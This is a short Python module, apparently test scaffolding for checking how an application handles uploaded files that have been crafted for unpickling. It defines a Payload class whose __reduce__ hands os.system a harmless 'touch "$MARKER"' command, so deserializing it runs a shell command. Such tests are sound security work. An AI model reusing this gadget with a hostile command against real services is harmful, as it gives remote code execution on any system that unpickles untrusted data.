"""What each crafted file is, and the code that it would run."""

import os
from pathlib import Path
from typing import Any

Made = tuple[str, Path]
"""The format a file is uploaded as, and the file."""
COMMAND = 'touch "$MARKER"'


class Payload:
    """Unpickling it runs the command."""

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (COMMAND,)
